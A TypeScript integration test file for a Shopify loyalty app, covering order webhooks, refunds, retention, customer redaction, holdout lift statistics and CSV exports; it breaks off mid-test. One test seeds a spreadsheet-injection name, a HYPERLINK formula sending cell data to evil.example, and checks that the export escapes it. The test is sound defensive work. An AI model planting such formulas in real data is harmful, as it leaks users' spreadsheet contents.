import { createHash } from 'node:crypto';
import { getJwt, TEST_SHOP, TEST_SHOP_NAME } from '@shopify/shopify-api/test-helpers';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Client } from '../../core/test/support/harness';
import { adminLoad, customerPayload, lineId, orderPayload, type OrderSpec, refundPayload } from './support/orders';
import { type Production, startProduction } from './support/production';
import { creatorFor, streakWithFirstDayReward } from './support/programs';
import { SHOPIFY, webhookRequest } from './support/stack';
import { until } from './support/until';

/**
 * CONTRACT §18's "what the program earns" through what ships: Shopify's order webhooks signed by its
 * test helpers into the production build, the core's built binary issuing the program's codes, and
 * the figures read back from the export the dashboard offers. The statistics are checked against a
 * computation written here, without the app's code.
 */
let prod: Production;
let api: Client;
const created = creatorFor(() => api);

async function deliver(topic: string, payload: Record<string, unknown>, webhookId?: string) {
  const res = await prod.send(await webhookRequest(topic, payload, webhookId));
  expect(res.status).toBe(200);
}

const worked = (subject: string) =>
  until(
    `${subject} worked off`,
    async () => {
      const { rows } = await prod.appPool.query<{ status: string }>(
        'select status from shopify_webhooks where shop = $1 and subject = $2',
        [TEST_SHOP, subject],
      );
      return rows[0] && rows[0].status !== 'pending' ? rows[0] : undefined;
    },
    60_000,
  );

const ONE_LINE: OrderSpec['lines'] = [{ product: 1, quantity: 1, price: '10.00' }];

/** The export's figures, by `<period>|<figure>`. */
async function figures(): Promise<Map<string, string>> {
  const res = await adminLoad(prod.url, '/app/earnings.csv');
  expect(res.status).toBe(200);
  expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
  expect(res.headers.get('content-disposition')).toMatch(
    /^attachment; filename="program-earnings-\d{4}-\d{2}-\d{2}-\d{4}-\d{2}-\d{2}\.csv"$/,
  );
  const rows = (await res.text())
    .trim()
    .split('\r\n')
    .map((line) => [...line.matchAll(/("(?:[^"]|"")*"|[^,]*)(?:,|$)/g)].map((m) => m[1]!.replace(/^"|"$/g, '').replaceAll('""', '"')));
  return new Map(rows.slice(1).map((r) => [`${r[0]}|${r[1]}`, r[2] ?? '']));
}

// The library answers 410 to bots; this is a browser's user agent.
const BROWSER = 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36';

/** The dashboard's retention form as the embedded admin posts it. */
async function postRetention(months: string): Promise<Response> {
  const { token } = await getJwt(TEST_SHOP_NAME, SHOPIFY.apiKey, SHOPIFY.apiSecretKey);
  const url = new URL('/app?index', prod.url);
  url.searchParams.set('embedded', '1');
  url.searchParams.set('shop', TEST_SHOP);
  url.searchParams.set('id_token', token);
  return fetch(url, {
    method: 'POST',
    headers: { 'content-type': 'application/x-www-form-urlencoded', authorization: `Bearer ${token}`, 'user-agent': BROWSER },
    body: new URLSearchParams({ retentionMonths: months }),
    redirect: 'manual',
  });
}

/** Every app table's rows that mention `needle` anywhere. */
async function mentions(needle: string): Promise<string[]> {
  const { rows: tables } = await prod.appPool.query<{ name: string }>(
    "select tablename as name from pg_tables where schemaname = 'public' and tablename <> 'shopify_app_migrations'",
  );
  const found: string[] = [];
  for (const { name } of tables) {
    const { rows } = await prod.appPool.query<{ n: string }>(`select count(*) as n from ${name} t where t::text like $1`, [`%${needle}%`]);
    if (Number(rows[0]!.n)) found.push(name);
  }
  return found;
}

beforeAll(async () => {
  // The smallest pool the app allows: the worker's eight earning lanes hold their rows on their own
  // connections, so their reads from this pool always find a place (on it, they starved each other).
  prod = await startProduction({ appEnv: { LOYALTY_SHOPIFY_DB_POOL_MAX: '4' } });
  expect((await adminLoad(prod.url, '/app')).status).toBe(200);
  const account = (await prod.shops.find(TEST_SHOP))!;
  api = new Client(`${prod.core.url}/api/v1.0`, { 'x-api-key': account.apiKey, 'x-api-secret': account.apiSecret });
}, 180_000);

afterAll(() => prod?.close());

describe('order facts and attribution', () => {
  const CUSTOMER = 7350127;
  const OTHER = 7350128;
  // A customer whose orders only the refund and retention tests look at.
  const THIRD = 7350129;
  let code = '';
  let streakId = '';
  const earnFromOrders = () =>
    prod.appPool.query("insert into earning_rules (shop, kind, definition_id, source) values ($1, 'streak', $2, 'orders')", [
      TEST_SHOP,
      streakId,
    ]);

  beforeAll(async () => {
    // A paid order's first day rewards a code the core generates: the program's own code.
    const { streak } = await streakWithFirstDayReward(created, { couponCodePrefix: 'LOYAL', completionTargetValue: 100 });
    streakId = streak.id;
    await earnFromOrders();
    await deliver('orders/paid', orderPayload(9001, { customer: { id: CUSTOMER }, lines: ONE_LINE, total: '15.00' }));
    await worked('order:9001');
    code = await until(
      'the reward log’s code',
      async () => {
        const res = await api.get('/schema/reward_log/record', { fields: ['couponCode'] });
        return (res.body.data as { couponCode: string | null }[]).find((r) => r.couponCode)?.couponCode;
      },
      60_000,
    );
    await prod.appPool.query('delete from earning_rules where shop = $1', [TEST_SHOP]);
  }, 120_000);

  it('counts an order that used a program code once, whatever else it used; other apps’ codes and manual discounts are not the program’s', async () => {
    const used = orderPayload(9002, {
      customer: { id: CUSTOMER },
      lines: ONE_LINE,
      total: '80.00',
      // Codes are case-insensitive at Shopify; the other app's code is not the program's.
      discountCodes: [
        { code: code.toLowerCase(), amount: '10.00' },
        { code: 'OTHERAPP10', amount: '5.00' },
      ],
    });
    await deliver('orders/paid', used, 'paid-9002');
    await deliver('orders/paid', used, 'paid-9002');
    await deliver('orders/paid', used, 'paid-9002-again');
    await deliver(
      'orders/paid',
      orderPayload(9003, {
        customer: { id: OTHER },
        lines: ONE_LINE,
        total: '50.00',
        discountCodes: [{ code: 'OTHERAPP10', amount: '5.00' }],
      }),
    );
    await deliver(
      'orders/paid',
      orderPayload(9004, {
        customer: { id: OTHER },
        lines: [{ product: 1, quantity: 1, price: '40.00', discount: '4.00' }],
        total: '36.00',
      }),
    );
    // A test order and an order without a customer keep nothing.
    await deliver('orders/paid', orderPayload(9005, { customer: { id: OTHER }, lines: ONE_LINE, total: '70.00', test: true }));
    await deliver('orders/paid', orderPayload(9006, { customer: null, lines: ONE_LINE, total: '70.00' }));
    const { rows } = await prod.appPool.query(
      'select order_id, customer_id, amount, refunded, discount_codes from order_facts where shop = $1 order by order_id',
      [TEST_SHOP],
    );
    expect(rows).toEqual([
      { order_id: '9001', customer_id: String(CUSTOMER), amount: 15, refunded: 0, discount_codes: [] },
      {
        order_id: '9002',
        customer_id: String(CUSTOMER),
        amount: 80,
        refunded: 0,
        discount_codes: [
          { code, amount: 10 },
          { code: 'OTHERAPP10', amount: 5 },
        ],
      },
      { order_id: '9003', customer_id: String(OTHER), amount: 50, refunded: 0, discount_codes: [{ code: 'OTHERAPP10', amount: 5 }] },
      { order_id: '9004', customer_id: String(OTHER), amount: 36, refunded: 0, discount_codes: [] },
    ]);
    const f = await figures();
    expect(f.get('current|program_orders')).toBe('1');
    expect(f.get('current|program_revenue')).toBe('80.00');
    expect(f.get('current|discount_given')).toBe('10.00');
    expect(f.get('current|codes_issued')).toBe('1');
    expect(f.get('current|codes_used')).toBe('1');
    expect(f.get('current|redemption_rate')).toBe('1.0000');
    // The customer the program earned for is a member with two orders; the other customer is not.
    expect(f.get('current|members_ordering')).toBe('1');
    expect(f.get('current|members_repeat_rate')).toBe('1.0000');
    expect(f.get('current|members_revenue_per_customer')).toBe('95.00');
    expect(f.get('current|others_ordering')).toBe('1');
    expect(f.get('current|others_revenue_per_customer')).toBe('86.00');
  });

  it('a refund takes its amount off once, whatever the redeliveries; a cancellation takes the order off', async () => {
    const refund = refundPayload(77, 9002, [{ position: 1, quantity: 1, subtotal: '20.00' }]);
    await deliver('refunds/create', refund, 'refund-77');
    await deliver('refunds/create', refund, 'refund-77');
    await deliver('refunds/create', refund, 'refund-77-again');
    let f = await figures();
    expect(f.get('current|program_revenue')).toBe('60.00');
    expect(f.get('current|program_orders')).toBe('1');
    await deliver('orders/cancelled', {
      ...orderPayload(9002, { customer: { id: CUSTOMER }, lines: ONE_LINE }),
      cancelled_at: new Date().toISOString(),
    });
    f = await figures();
    expect(f.get('current|program_orders')).toBe('0');
    expect(f.get('current|program_revenue')).toBe('0.00');
    expect(f.get('current|codes_used')).toBe('0');
    expect(f.get('current|members_repeat_rate')).toBe('0.0000');
  });

  it('a refund and a cancellation that arrive before their order end as if in order', async () => {
    await deliver('refunds/create', refundPayload(78, 9010, [{ position: 1, quantity: 1, subtotal: '12.50' }]));
    await deliver('orders/paid', orderPayload(9010, { customer: { id: OTHER }, lines: ONE_LINE, total: '30.00' }));
    await deliver('orders/cancelled', {
      ...orderPayload(9011, { customer: { id: OTHER }, lines: ONE_LINE }),
      cancelled_at: new Date().toISOString(),
    });
    await deliver('orders/paid', orderPayload(9011, { customer: { id: OTHER }, lines: ONE_LINE, total: '30.00' }));
    // Refunded shipping as API 2024-10 and later send it: beside the lines, not among the order's adjustments.
    await deliver('orders/paid', orderPayload(9012, { customer: { id: THIRD }, lines: ONE_LINE, total: '17.00' }));
    await deliver('refunds/create', {
      ...refundPayload(80, 9012, [{ position: 1, quantity: 1, subtotal: '10.00' }]),
      refund_shipping_lines: [
        {
          id: 801,
          shipping_line_id: 1,
          subtotal_amount_set: { shop_money: { amount: '5.00', currency_code: 'USD' } },
          tax_amount_set: { shop_money: { amount: '2.00', currency_code: 'USD' } },
        },
      ],
    });
    const { rows } = await prod.appPool.query(
      'select order_id, amount, refunded from order_facts where shop = $1 and order_id in ($2, $3, $4) order by order_id',
      [TEST_SHOP, '9010', '9011', '9012'],
    );
    expect(rows).toEqual([
      { order_id: '9010', amount: 30, refunded: 12.5 },
      { order_id: '9011', amount: 30, refunded: 30 },
      { order_id: '9012', amount: 17, refunded: 17 },
    ]);
  });

  it('the retention setting refuses what is not 1 to 120 months in words, and the worker drops older orders', async () => {
    for (const bad of ['0', '121', 'two', '1.5']) {
      const res = await postRetention(bad);
      expect(res.status, bad).toBe(400);
    }
    const old = new Date(Date.now() - 62 * 86_400_000).toISOString();
    await deliver('orders/paid', orderPayload(9020, { customer: { id: OTHER }, lines: ONE_LINE, total: '30.00', processedAt: old }));
    expect((await postRetention('1')).status).toBe(200);
    expect((await prod.appPool.query('select order_retention_months from shops where shop = $1', [TEST_SHOP])).rows[0]).toEqual({
      order_retention_months: 1,
    });
    // What Shopify sent of an order (addresses, e-mail, notes) goes once no work reads it, 30 days after it came.
    const payloadOf = async (orderId: string) =>
      (
        await prod.appPool.query<{ status: string; payload: Record<string, unknown> }>(
          "select status, payload from shopify_webhooks where shop = $1 and subject = 'order:' || $2",
          [TEST_SHOP, orderId],
        )
      ).rows[0];
    await until('order 9020 worked off', async () => (await payloadOf('9020'))?.status === 'done');
    // A cancellation and a refund of orders the app never saw paid (placed before it was installed, never paid) wait for them.
    await deliver('orders/cancelled', {
      ...orderPayload(9023, { customer: { id: THIRD }, lines: ONE_LINE }),
      cancelled_at: new Date().toISOString(),
      shipping_address: { address1: '1 Secret Lane' },
    });
    await deliver('refunds/create', refundPayload(79, 9024, [{ position: 1, quantity: 1, subtotal: '10.00' }]));
    const waiting = async () =>
      (
        await prod.appPool.query<{ topic: string; status: string; payload: Record<string, unknown> }>(
          "select topic, status, payload from shopify_webhooks where shop = $1 and order_id in ('9023', '9024') order by topic",
          [TEST_SHOP],
        )
      ).rows;
    await until('both waiting', async () => (await waiting()).every((r) => r.status === 'waiting') && (await waiting()).length === 2);
    await prod.appPool.query(
      "update shopify_webhooks set created_at = now() - interval '31 days' where shop = $1 and (subject = 'order:9020' or order_id in ('9023', '9024'))",
      [TEST_SHOP],
    );
    // The worker drops expired facts and old payloads when it starts (and every hour after).
    await prod.crashAndRestart();
    await until(
      'the old order dropped',
      async () => {
        const { rowCount } = await prod.appPool.query("select 1 from order_facts where shop = $1 and order_id = '9020'", [TEST_SHOP]);
        return rowCount === 0;
      },
      60_000,
    );
    await until('its payload emptied', async () => Object.keys((await payloadOf('9020'))!.payload).length === 0);
    // The waiting ones keep only what they will read if their order comes.
    await until('the waiting payloads trimmed', async () => {
      const [cancelled, refund] = await waiting();
      return Object.keys(cancelled!.payload).length === 2 && !('note' in refund!.payload) ? [cancelled, refund] : undefined;
    });
    const [cancelled, refund] = await waiting();
    expect(cancelled).toMatchObject({
      topic: 'orders/cancelled',
      status: 'waiting',
      payload: { id: 9023, cancelled_at: expect.any(String) },
    });
    expect(refund).toMatchObject({ topic: 'refunds/create', status: 'waiting' });
    expect(Object.keys(refund!.payload).sort()).toEqual(['id', 'order_adjustments', 'order_id', 'refund_line_items']);
    // And still take back their share when it comes.
    await deliver('orders/paid', orderPayload(9024, { customer: { id: THIRD }, lines: ONE_LINE, total: '30.00' }));
    await until('the trimmed refund applied', async () => {
      const { rows } = await prod.appPool.query("select refunded from shopify_orders where shop = $1 and order_id = '9024'", [TEST_SHOP]);
      return rows[0]?.refunded?.[String(lineId(9024, 1))] === 1;
    });
    expect((await payloadOf('9001'))!.payload).toMatchObject({ id: 9001, email: expect.any(String) });
    expect(
      (await prod.appPool.query("select count(*)::int as n from order_facts where shop = $1 and order_id in ('9001', '9004')", [TEST_SHOP]))
        .rows[0],
    ).toEqual({
      n: 2,
    });
    expect((await postRetention('24')).status).toBe(200);
  });

  it('customers/data_request exports what the core and the app keep of the customer; customers/redact leaves nothing of them in any app table', async () => {
    // A guest order paid with an e-mail of theirs, which Shopify names in the redaction.
    const guestEmail = `guest-of-${CUSTOMER}@example.com`;
    await deliver('orders/paid', { ...orderPayload(9031, { customer: null, lines: ONE_LINE, total: '10.00' }), email: guestEmail });
    await until('the guest order worked off', async () => {
      const { rows } = await prod.appPool.query("select status from shopify_webhooks where shop = $1 and subject = 'order:9031'", [
        TEST_SHOP,
      ]);
      return rows[0]?.status === 'done';
    });
    // The update that showed their e-mail verified is kept (it adopts guest orders) and names them too.
    await deliver('customers/update', customerPayload(CUSTOMER));
    await until('the verified update worked off', async () => {
      const { rows } = await prod.appPool.query('select status from shopify_webhooks where shop = $1 and subject = $2', [
        TEST_SHOP,
        `verified:${CUSTOMER}`,
      ]);
      return rows[0]?.status === 'done';
    });
    // An earlier data request's export and a tier to sync name the customer too.
    await deliver('customers/data_request', {
      shop_domain: TEST_SHOP,
      customer: { id: CUSTOMER, email: `c${CUSTOMER}@example.com` },
      orders_requested: [9031],
      data_request: { id: 77001 },
    });
    const exported = (
      await prod.appPool.query('select export from data_requests where shop = $1 and request_id = $2', [TEST_SHOP, '77001'])
    ).rows[0]!.export;
    expect(exported.member).toMatchObject({ externalId: `gid://shopify/Customer/${CUSTOMER}` });
    // Every kind of record the erasure takes (CONTRACT §9): what was sent about them among them.
    for (const kind of ['pointEntries', 'taskProgress', 'notifications']) expect(exported[kind], kind).toEqual(expect.any(Array));
    expect(exported.events.length).toBeGreaterThan(0);
    expect(exported.app.order_facts.map((f: { order_id: string }) => f.order_id)).toEqual(expect.arrayContaining(['9001']));
    // Their orders, and the guest order Shopify names with them.
    expect(exported.app.shopify_orders.map((o: { order_id: string }) => o.order_id)).toEqual(expect.arrayContaining(['9001', '9031']));
    expect(exported.app.shopify_webhooks.map((w: { subject: string }) => w.subject)).toEqual(
      expect.arrayContaining([`verified:${CUSTOMER}`, 'order:9001']),
    );
    await prod.appPool.query('insert into customer_tiers (shop, customer_id) values ($1, $2) on conflict do nothing', [
      TEST_SHOP,
      String(CUSTOMER),
    ]);
    expect(await mentions(String(CUSTOMER))).toEqual(expect.arrayContaining(['order_facts', 'data_requests', 'customer_tiers']));
    await deliver('customers/redact', {
      shop_domain: TEST_SHOP,
      customer: { id: CUSTOMER, email: `c${CUSTOMER}@example.com` },
      orders_to_redact: [9001, 9002, 9031],
    });
    expect(await mentions(String(CUSTOMER))).toEqual([]);
    expect(await mentions(`c${CUSTOMER}@example.com`)).toEqual([]);
    expect(await mentions(guestEmail)).toEqual([]);
    // A late redelivery of their order, by its webhook id or another, is known still and brings nothing of them back.
    const { rows: kept } = await prod.appPool.query<{ webhook_id: string }>(
      "select webhook_id from shopify_webhooks where shop = $1 and subject = 'order:9001'",
      [TEST_SHOP],
    );
    expect(kept).toHaveLength(1);
    const order9001 = orderPayload(9001, { customer: { id: CUSTOMER }, lines: ONE_LINE, total: '15.00' });
    await deliver('orders/paid', order9001, kept[0]!.webhook_id);
    await deliver('orders/paid', order9001);
    expect(await mentions(String(CUSTOMER))).toEqual([]);
    // The other customer's facts stay.
    expect(
      (await prod.appPool.query('select count(*)::int as n from order_facts where customer_id = $1', [String(OTHER)])).rows[0],
    ).toEqual({ n: 4 });
    // A redaction naming a guest's orders and no customer id erases those orders.
    const anotherGuest = 'another-guest@example.com';
    await deliver('orders/paid', { ...orderPayload(9032, { customer: null, lines: ONE_LINE, total: '10.00' }), email: anotherGuest });
    await until('the other guest order worked off', async () => {
      const { rows } = await prod.appPool.query("select status from shopify_webhooks where shop = $1 and subject = 'order:9032'", [
        TEST_SHOP,
      ]);
      return rows[0]?.status === 'done';
    });
    expect(await mentions(anotherGuest)).not.toEqual([]);
    await deliver('customers/redact', { shop_domain: TEST_SHOP, customer: { email: anotherGuest }, orders_to_redact: [9032] });
    expect(await mentions(anotherGuest)).toEqual([]);
  });

  it('every order of a customer counts as a member’s from the first the program earned for, however the webhooks race', async () => {
    const RACER = 7350300;
    const before = await figures();
    await earnFromOrders();
    // Eight orders at once, the earliest sent last: the web role keeps their facts while the worker makes the member.
    const start = Date.now();
    const orders = Array.from({ length: 8 }, (_, i) => ({
      id: 9100 + i,
      processedAt: new Date(start - (10 - i) * 3_600_000).toISOString(),
    }));
    await Promise.all(
      [...orders]
        .reverse()
        .map(({ id, processedAt }) =>
          deliver('orders/paid', orderPayload(id, { customer: { id: RACER }, lines: ONE_LINE, total: '20.00', processedAt })),
        ),
    );
    for (const { id } of orders) await worked(`order:${id}`);
    await prod.appPool.query('delete from earning_rules where shop = $1', [TEST_SHOP]);
    const { rows } = await prod.appPool.query<{ joined_at: Date; member_from: Date[] }>(
      `select m.joined_at, array_agg(f.member_from) as member_from from program_members m
       join order_facts f on f.shop = m.shop and f.customer_id = m.customer_id where m.shop = $1 and m.customer_id = $2 group by m.joined_at`,
      [TEST_SHOP, String(RACER)],
    );
    expect(rows).toHaveLength(1);
    expect(rows[0]!.joined_at.toISOString()).toBe(orders[0]!.processedAt);
    expect(rows[0]!.member_from.map((d) => d.toISOString())).toEqual(orders.map(() => orders[0]!.processedAt));
    const after = await figures();
    expect(Number(after.get('current|members_ordering'))).toBe(Number(before.get('current|members_ordering')) + 1);
    expect(after.get('current|others_ordering')).toBe(before.get('current|others_ordering'));
  });
});

/** A seeded generator (mulberry32), so the synthetic shop is the same on every run. */
function random(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

/** §18's group, computed here from the published definition. */
const heldOut = (definitionId: string, customer: number, percent: number) =>
  createHash('sha256').update(`${definitionId}:gid://shopify/Customer/${customer}`, 'utf8').digest().readUInt32BE(0) / 2 ** 32 <
  percent / 100;

/** The relative lift and its 95 % interval by the delta method on the log ratio, written out here. */
function independentLift(inside: number[], outside: number[]) {
  const mean = (xs: number[]) => xs.reduce((a, b) => a + b, 0) / xs.length;
  const variance = (xs: number[]) => {
    const m = mean(xs);
    return xs.reduce((a, x) => a + (x - m) ** 2, 0) / (xs.length - 1);
  };
  const [mi, mo] = [mean(inside), mean(outside)];
  const se = Math.sqrt(variance(inside) / (inside.length * mi * mi) + variance(outside) / (outside.length * mo * mo));
  const r = mi / mo;
  return { r: r - 1, low: r * Math.exp(-1.959963984540054 * se) - 1, high: r * Math.exp(1.959963984540054 * se) - 1, mi, mo };
}

describe('holdout lift (a synthetic shop)', () => {
  // 1,200 customers put the lift's interval about 0.18 wide: 0.25 is then more than five standard errors from 0.
  const CUSTOMERS = 1200;
  const FIRST = 200_000;
  const TRUE_LIFT = 0.25;
  const PERCENT = 20;

  it('lies within chance of the true lift and excludes 0 where members spend more, stays near 0 where the groups do not differ, and equals a computation written here', async () => {
    const lifted = await created('/schema/challenge/record', {
      name: 'Spend more',
      status: 'live',
      aggregationPeriod: 'monthly',
      aggregationMethod: 'sum',
      completionTargetValue: 1000,
      holdoutPercent: PERCENT,
    });
    const flat = await created('/schema/challenge/record', {
      name: 'Does nothing',
      status: 'live',
      aggregationPeriod: 'monthly',
      aggregationMethod: 'count',
      completionTargetValue: 10,
      holdoutPercent: PERCENT,
    });
    // Orders are drawn with the lift for the members in the first definition's program; the second's groups are independent of it.
    const next = random(34);
    const revenue = new Map<number, number>();
    const orders: Record<string, unknown>[] = [];
    let orderId = 500_000;
    for (let i = 0; i < CUSTOMERS; i++) {
      const customer = FIRST + i;
      const count = 1 + (next() < 0.4 ? 1 : 0) + (next() < 0.2 ? 1 : 0);
      for (let k = 0; k < count; k++) {
        const cents = Math.round((20 + 80 * next()) * (heldOut(lifted.id, customer, PERCENT) ? 1 : 1 + TRUE_LIFT) * 100);
        revenue.set(customer, (revenue.get(customer) ?? 0) + cents);
        const processedAt = new Date(Date.now() - (1 + Math.floor(next() * 5 * 24)) * 3_600_000).toISOString();
        orders.push(orderPayload(++orderId, { customer: { id: customer }, lines: ONE_LINE, total: (cents / 100).toFixed(2), processedAt }));
      }
    }
    for (let i = 0; i < orders.length; i += 25) await Promise.all(orders.slice(i, i + 25).map((o) => deliver('orders/paid', o)));
    const f = await figures();
    // The customers of the first describe's orders are in the period too: they are counted as they are here.
    const { rows: earlier } = await prod.appPool.query<{ customer_id: string; net: string }>(
      'select customer_id, sum(amount - refunded) as net from order_facts where shop = $1 and customer_id::bigint not between $2 and $3 group by customer_id having count(*) filter (where amount > refunded) > 0',
      [TEST_SHOP, FIRST, FIRST + CUSTOMERS - 1],
    );
    const net = new Map<number, number>([...revenue].map(([c, cents]) => [c, cents / 100]));
    for (const r of earlier) net.set(Number(r.customer_id), Number(r.net));
    for (const [definition, name] of [
      [lifted, 'challenge "Spend more" (20%)'],
      [flat, 'challenge "Does nothing" (20%)'],
    ] as const) {
      const inside = [...net].filter(([c]) => !heldOut(definition.id, c, PERCENT)).map(([, v]) => v);
      const outside = [...net].filter(([c]) => heldOut(definition.id, c, PERCENT)).map(([, v]) => v);
      const mine = independentLift(inside, outside);
      const key = (figure: string) => f.get(`holdout ${name}|${figure}`);
      expect(Number(key('in_ordering_customers'))).toBe(inside.length);
      expect(Number(key('out_ordering_customers'))).toBe(outside.length);
      expect(Number(key('in_revenue_per_customer'))).toBeCloseTo(mine.mi, 2);
      expect(Number(key('out_revenue_per_customer'))).toBeCloseTo(mine.mo, 2);
      expect(Number(key('relative_lift'))).toBeCloseTo(mine.r, 4);
      expect(Number(key('relative_lift_95_low'))).toBeCloseTo(mine.low, 4);
      expect(Number(key('relative_lift_95_high'))).toBeCloseTo(mine.high, 4);
    }
    const lift = (name: string) => ({
      low: Number(f.get(`holdout challenge "${name}" (20%)|relative_lift_95_low`)),
      high: Number(f.get(`holdout challenge "${name}" (20%)|relative_lift_95_high`)),
    });
    // Both definitions' groups follow their random ids, so a 95 % interval misses the true value in one
    // run of twenty by chance alone: the true value must lie within 3.3 standard errors of the interval's
    // centre (one run in a thousand), and the lift's interval must exclude 0.
    const within = (interval: { low: number; high: number }, truth: number) => {
      const centre = (interval.low + interval.high) / 2;
      const standardError = (interval.high - interval.low) / (2 * 1.959963984540054);
      expect(Math.abs(centre - truth)).toBeLessThan(3.3 * standardError);
    };
    const first = lift('Spend more');
    expect(first.low).toBeGreaterThan(0);
    within(first, TRUE_LIFT);
    within(lift('Does nothing'), 0);
  }, 300_000);
});

describe('the exports’ points and tiers (CONTRACT §19)', () => {
  const SHOPPER = 7359001;
  let referralCode = '';
  let shopperId = '';
  beforeAll(async () => {
    const [setting] = (await api.get('/schema/points_setting/record')).body.data;
    expect((await api.patch(`/schema/points_setting/record/${setting.id}`, { status: 'live' })).status).toBe(200);
    await created('/schema/tier/record', { name: 'Gold', status: 'live', pointsThreshold: 100, earnMultiplier: 1 });
    const member = await created('/schema/account_user/record', { externalId: `gid://shopify/Customer/${SHOPPER}`, birthday: '07-14' });
    for (const [points, reason] of [
      [120, 'earned'],
      [-30, 'adjusted'],
    ] as const)
      expect((await api.post('/schema/point_entry/record', { ownedById: member.id, points, reason })).status).toBe(200);
    // Enough members for the members export to take three pages of 200 (500 in one page's filters made URLs the core refuses).
    for (let i = 0; i < 520; i += 40)
      await Promise.all(
        Array.from({ length: 40 }, (_, k) =>
          created('/schema/account_user/record', { externalId: `gid://shopify/Customer/${7360000 + i + k}` }),
        ),
      );
    // Their referrer on the export's last page, the shopper on its first.
    const referrer = await created('/schema/account_user/record', { externalId: 'gid://shopify/Customer/7359002' });
    expect((await api.patch(`/schema/account_user/record/${member.id}`, { referredById: referrer.id })).status).toBe(200);
    referralCode = member.referralCode;
    shopperId = member.id;
  }, 120_000);

  it('the figures add the range’s points by reason and what members hold now', async () => {
    const f = await figures();
    expect(
      [
        'current|points_earned',
        'current|points_redeemed',
        'current|points_adjusted',
        'now|points_outstanding',
        'now|members_with_points',
      ].map((key) => f.get(key)),
    ).toEqual(['120', '0', '-30', '90', '1']);
  });

  it('the members export lists every member, a page of the core’s at a time, with their orders, points, tier by name and social follows', async () => {
    // The shopper follows the shop on two networks, 5 points each.
    const [setting] = (await api.get('/schema/points_setting/record')).body.data;
    const profiles = { pointsOnFollow: 5, instagramUrl: 'https://www.instagram.com/shop', tiktokUrl: 'https://www.tiktok.com/@shop' };
    expect((await api.patch(`/schema/points_setting/record/${setting.id}`, profiles)).status).toBe(200);
    for (const network of ['instagram', 'tiktok'])
      expect((await api.post(`/schema/points_setting/record/${setting.id}/action/follow`, { network, ownedById: shopperId })).status).toBe(
        200,
      );
    // The shopper paused (as a customer tag leaves them out) while the export runs: its last column says so.
    expect((await api.patch(`/schema/account_user/record/${shopperId}`, { status: 'paused' })).status).toBe(200);
    const res = await adminLoad(prod.url, '/app/members.csv');
    // The export is streamed, a page of members at a time: read whole before the shopper is live again.
    const body = await res.text().finally(() => api.patch(`/schema/account_user/record/${shopperId}`, { status: 'live' }));
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
    const [header, ...rows] = body
      .trim()
      .split('\r\n')
      .map((line) => line.split(','));
    const column = (row: string[], name: string) => row[header!.indexOf(name)];
    expect(header!.slice(-11)).toEqual([
      'orders',
      'order_total',
      'refunded_total',
      'points_balance',
      'points_earned_in_tier_window',
      'tier',
      'birthday',
      'referral_code',
      'referred_by',
      'social_follows',
      'status',
    ]);
    const total = (await api.get('/schema/account_user/record', { fetchTotalCount: true, limit: 1 })).body.paging.total;
    expect(total).toBeGreaterThan(500);
    expect(rows).toHaveLength(total);
    expect(new Set(rows.map((r) => column(r, 'external_id'))).size).toBe(total);
    const shopper = rows.find((r) => column(r, 'shopify_customer_id') === String(SHOPPER))!;
    expect(
      ['points_balance', 'points_earned_in_tier_window', 'tier', 'birthday', 'referral_code', 'referred_by'].map((name) =>
        column(shopper, name),
      ),
    ).toEqual(['100', '130', 'Gold', '07-14', referralCode, '7359002']);
    expect(rows.filter((r) => column(r, 'referred_by'))).toHaveLength(1);
    // The networks a member followed for points: one cell, space-separated.
    expect(column(shopper, 'social_follows')).toBe('instagram tiktok');
    expect(rows.filter((r) => column(r, 'social_follows'))).toHaveLength(1);
    expect(column(shopper, 'status')).toBe('paused');
    expect(rows.filter((r) => column(r, 'status') !== 'live')).toHaveLength(1);
    // An ordering customer's totals are the app's order facts.
    const { rows: facts } = await prod.appPool.query<{ customer_id: string; orders: string; total: string }>(
      'select customer_id, count(*)::text as orders, sum(amount)::numeric(12, 2)::text as total from order_facts where shop = $1 and processed_at is not null group by 1 order by 2 desc limit 1',
      [TEST_SHOP],
    );
    const buyer = rows.find((r) => column(r, 'shopify_customer_id') === facts[0]!.customer_id)!;
    expect([column(buyer, 'orders'), column(buyer, 'order_total'), column(buyer, 'tier')]).toEqual([facts[0]!.orders, facts[0]!.total, '']);
  });

  it('a name a spreadsheet would run as a formula goes out as text', async () => {
    const names = { firstName: '=HYPERLINK("http://evil.example/?x="&A1,"click")', lastName: '@SUM(A1)' };
    await created('/schema/account_user/record', { externalId: 'gid://shopify/Customer/7359999', ...names });
    const body = await (await adminLoad(prod.url, '/app/members.csv')).text();
    const line = body.split('\r\n').find((l) => l.startsWith('7359999,'));
    expect(line).toContain(`,"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",'@SUM(A1),`);
  });
});

describe('referred customers (points_setting.pointsOnReferral)', () => {
  it('the figures count each period’s first orders that came through a member’s link, with their revenue net of refunds', async () => {
    const [setting] = (await api.get('/schema/points_setting/record')).body.data;
    expect((await api.patch(`/schema/points_setting/record/${setting.id}`, { status: 'live', pointsOnReferral: 30 })).status).toBe(200);
    const referrer = await created('/schema/account_user/record', { externalId: 'gid://shopify/Customer/7358001' });
    // The earning worker reads the rates again once what it read is 2 s old (LIVE_FRESH_MS): the orders above may have just read them.
    await new Promise((r) => setTimeout(r, 2100));
    const before = await figures();
    const order = {
      customer: { id: 7358002, created_at: new Date().toISOString() },
      lines: ONE_LINE,
      total: '42.00',
      attributes: { _loyalty_ref: referrer.referralCode },
    };
    await deliver('orders/paid', orderPayload(9801, order));
    await worked('order:9801');
    // A first order without the link counts for nothing here.
    await deliver('orders/paid', orderPayload(9802, { customer: { id: 7358003, created_at: new Date().toISOString() }, lines: ONE_LINE }));
    await worked('order:9802');
    let f = await figures();
    expect(Number(f.get('current|referred_orders'))).toBe(Number(before.get('current|referred_orders')) + 1);
    expect(f.get('current|referred_revenue')).toBe((Number(before.get('current|referred_revenue')) + 42).toFixed(2));
